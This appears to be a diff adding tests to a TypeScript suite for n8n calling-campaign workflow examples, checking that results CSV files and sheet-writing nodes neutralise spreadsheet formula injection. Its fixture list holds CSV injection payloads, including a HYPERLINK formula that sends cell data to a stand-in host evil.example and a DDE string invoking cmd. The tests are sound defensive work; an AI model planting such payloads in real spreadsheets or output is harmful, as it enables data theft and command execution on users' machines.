@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { readdirSync } from 'node:fs';
-import { readFile, writeFile } from 'node:fs/promises';
+import { copyFile, readFile, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { contacts } from '../engine/workflows';
 import type { Sandbox } from '../sandbox';
@@ -33,6 +33,24 @@ const succeeded = (execution: Execution): Execution => {
 
 /** The campaign's results file. */
 const resultsIn = async (file: string) => parse<Record<string, string>>(await readFile(file), { columns: true, bom: true });
+
+/** Its headings and cells that a spreadsheet would evaluate; a phone number or an amount is no formula. */
+const formulasIn = async (file: string): Promise<string[]> =>
+	parse(await readFile(file, 'utf8'), { bom: true, relax_column_count: true, record_delimiter: ['\n', '\r\n', '\r'] })
+		.flat()
+		.filter((cell) => /^\s*[=+@-]|^[\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
+
+/** What somebody else may write into a sheet, or the API into a reason. */
+const hostileTexts = [
+	'=HYPERLINK("http://evil.example/?"&A2,"Click")',
+	"+1+cmd|' /C calc'!A0",
+	'-2+3+cmd',
+	'@SUM(A1:A9)',
+	'\t=1+1',
+	'\r=1+1',
+	' =1+1',
+	'Ada\r=1+1',
+];
 
 describe('campaign.workflow.json', () => {
 	it('as it is imported, calls nobody and writes for each contact what would be sent', async () => {
@@ -97,6 +115,45 @@ describe('campaign.workflow.json', () => {
 			...[0, 2, 3].map((n) => [rows[n]!.name, 'initiated', '', 'TRUE', true]),
 			[rows[1]!.name, 'failed', 'No route to this number', '', false],
 		]);
+	});
+
+	describe('a cell that a spreadsheet would take for a formula', () => {
+		const rows = [
+			...hostileTexts.map((name, n) => ({ '=2+5': 'x', phone: contacts(20)[n]!.phone, name, amount: '-12.50' })),
+			{ '=2+5': 'x', phone: '+49-171-2345678', name: 'Ada, "the first"', amount: '7' },
+		];
+
+		it.each(['dryRun', 'live'] as const)('is text in the results file, and phone numbers and amounts are as they were (Mode: %s)', async (mode) => {
+			for (const [n, error] of hostileTexts.entries()) bench.sandbox.destinationOutcome.set(rows[n]!.phone, { status: 'failed', error });
+			const { execution, resultsFile } = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows), mode });
+			succeeded(execution);
+			expect(await formulasIn(resultsFile)).toEqual([]);
+
+			const results = await resultsIn(resultsFile);
+			const byPhone = new Map(results.map((row) => [row.destination, row]));
+			expect(results).toHaveLength(rows.length);
+			expect(byPhone.get(rows[0]!.phone)).toMatchObject({
+				"'=2+5": 'x',
+				name: `'${hostileTexts[0]}`,
+				amount: '-12.50',
+				...(mode === 'live' ? { status: 'failed', reason: `'${hostileTexts[0]}` } : { 'prompt_variables.name': `'${hostileTexts[0]}` }),
+			});
+			expect(byPhone.get('+491712345678')).toMatchObject({ name: 'Ada, "the first"', phone: "'+49-171-2345678" });
+		});
+
+		it('can be read again: a results file as contacts calls the same numbers', async () => {
+			const { resultsFile } = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows), mode: 'dryRun' });
+			const again = path.join(bench.stage.userFolder, 'again.csv');
+			await copyFile(resultsFile, again);
+			const { outcomes } = await runCampaign(bench.stage, quiet, { contactsFile: again });
+			expect(
+				outcomes
+					.flat()
+					.map(({ destination }) => destination)
+					.sort(),
+			).toEqual(bench.dialed.sort());
+			expect(bench.dialed).toHaveLength(rows.length);
+		});
 	});
 
 	it('executed once more, calls nobody twice', async () => {
@@ -380,6 +437,26 @@ describe('wait-for-callback.workflow.json', () => {
 	});
 });
 
+describe('campaign-larger-than-one-machine.workflow.json', () => {
+	it('writes no cell that a spreadsheet would take for a formula', async () => {
+		const workflow = await importExample(bench, 'campaign-larger-than-one-machine.workflow.json');
+		const lines = hostileTexts.map((text, n) => ({
+			json: { campaign: text, name: text, phone: contacts(20)[n]!.phone, status: 'failed', reason: text },
+		}));
+		// In place of the table.
+		const nodes = workflow.nodes.map(({ id, name, position, ...node }) =>
+			name === 'Results'
+				? { id, name, position, type: 'n8n-nodes-base.code', typeVersion: 2, parameters: { jsCode: `return ${JSON.stringify(lines)};` } }
+				: { id, name, position, ...node },
+		);
+		const filled = await bench.stage.client.createWorkflow({ ...workflow, nodes });
+		succeeded(await bench.stage.client.runAndWait(filled, 'See results'));
+		const file = path.join(bench.stage.filesFolder, 'campaign-results.csv');
+		expect(await formulasIn(file)).toEqual([]);
+		expect((await resultsIn(file)).map(({ phone }) => phone)).toEqual(lines.map(({ json }) => json.phone));
+	});
+});
+
 describe('every example', () => {
 	const files = readdirSync(examples).filter((file) => file.endsWith('.workflow.json'));
 	let described: Described;
@@ -390,6 +467,12 @@ describe('every example', () => {
 	it.each(files)('%s imports, and n8n knows all its nodes and their fields', async (file) => {
 		const { nodes } = await importExample(bench, file);
 		expect(nodes.flatMap((node) => complaintsAbout(node, described(node)))).toEqual([]);
+	});
+
+	it.each(files)('%s writes cells as they are, not as a person’s input, where it writes into a sheet', async (file) => {
+		const { nodes } = await importExample(bench, file);
+		const writing = nodes.filter(({ type, parameters }) => /googleSheets|microsoftExcel/i.test(type) && parameters.operation !== 'read');
+		expect(writing.map(({ parameters }) => parameters.options)).toEqual(writing.map(() => ({ cellFormat: 'RAW' })));
 	});
 
 	it.each(files)('%s calls nobody until Mode is set to Live, and remembers whom it called, or has a database that does', async (file) => {
